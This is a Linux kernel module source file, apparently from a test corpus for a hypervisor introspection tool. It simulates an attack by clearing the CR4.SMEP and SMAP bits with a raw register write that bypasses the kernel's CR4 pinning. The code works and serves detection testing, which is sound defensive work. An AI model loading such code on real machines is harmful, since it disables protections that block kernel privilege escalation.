// SPDX-License-Identifier: GPL-2.0
/* Attack: clear CR4.SMEP (and CR4.SMAP unless smap=0) on the CPU that loads the module, with a
 * raw mov (bypassing the kernel's CR4 pinning, which native_write_cr4() enforces); the bits are
 * set again on that CPU on unload. The kernel's per-CPU copy of CR4 (cpu_tlbstate.cr4) is left
 * alone, and on a CPU without INVPCID (QEMU's TCG has none) every global TLB flush rewrites
 * CR4 from that copy (the PGE toggle), which sets the bits again by itself: the insmod path
 * can do that moments after init. Writing 1 to /sys/module/hvi_cr4_smep/parameters/clear
 * clears them again (on the writer's CPU) once the load is over. Needs a CPU model with SMEP
 * (the test guest's default qemu64 has neither bit). Reading
 * /sys/module/hvi_cr4_smep/parameters/state prints CR4 of the reader's CPU and its two bits
 * (guest-side evidence for the tests). */
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/smp.h>
#include <asm/processor-flags.h>
#include "attack_common.h"

static int smap = 1;
module_param(smap, int, 0444);
static int cpu = -1;
static unsigned long cleared;

static unsigned long read_cr4(void)
{
	unsigned long v;

	asm volatile("mov %%cr4, %0" : "=r"(v));
	return v;
}

static void write_cr4_raw(unsigned long v)
{
	asm volatile("mov %0, %%cr4" : : "r"(v) : "memory");
}

static int state_get(char *buf, const struct kernel_param *kp)
{
	unsigned long v = read_cr4();

	return scnprintf(buf, PAGE_SIZE, "cpu %d cr4 %lx smep %s smap %s (attacked cpu %d)\n",
			 raw_smp_processor_id(), v, (v & X86_CR4_SMEP) ? "set" : "clear",
			 (v & X86_CR4_SMAP) ? "set" : "clear", cpu);
}

static const struct kernel_param_ops state_ops = { .get = state_get };
module_param_cb(state, &state_ops, NULL, 0444);

static void bits_on(void *unused)
{
	write_cr4_raw(read_cr4() | cleared);
}

/* Clear the bits on this CPU (the first CPU that had SMEP set; any other is refused); false if
 * this is not that CPU. */
static bool clear_here(unsigned long *was)
{
	unsigned long v, want = X86_CR4_SMEP | (smap ? X86_CR4_SMAP : 0), flags;
	int me = get_cpu();

	local_irq_save(flags);
	v = read_cr4();
	if ((v & X86_CR4_SMEP) && (cpu < 0 || cpu == me)) {
		cleared |= v & want;
		cpu = me;
		write_cr4_raw(v & ~want);
	}
	local_irq_restore(flags);
	put_cpu();
	*was = v;
	return cpu == me;
}

static int clear_set(const char *val, const struct kernel_param *kp)
{
	unsigned long v;

	if (cpu < 0) /* module parameter at load time: init does it */
		return 0;
	if (!clear_here(&v))
		return -ENODEV;
	pr_info("hvi-attack: CR4 %lx -> %lx on cpu %d (cleared again)\n", v, read_cr4(), cpu);
	return 0;
}

static const struct kernel_param_ops clear_ops = { .set = clear_set };
module_param_cb(clear, &clear_ops, NULL, 0200);

static int __init attack_init(void)
{
	unsigned long v;

	if (!clear_here(&v)) {
		pr_err("hvi-attack: CR4.SMEP is not set on cpu %d (cr4 %lx): CPU model without SMEP\n",
		       raw_smp_processor_id(), v);
		return -ENODEV;
	}
	pr_info("hvi-attack: CR4 %lx -> %lx on cpu %d (SMEP%s cleared)\n", v, v & ~cleared, cpu,
		(cleared & X86_CR4_SMAP) ? ", SMAP" : "");
	return 0;
}

static void __exit attack_exit(void)
{
	smp_call_function_single(cpu, bits_on, NULL, 1);
	pr_info("hvi-attack: CR4 bits %lx set again on cpu %d\n", cleared, cpu);
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvi test corpus: CR4.SMEP/SMAP clear");
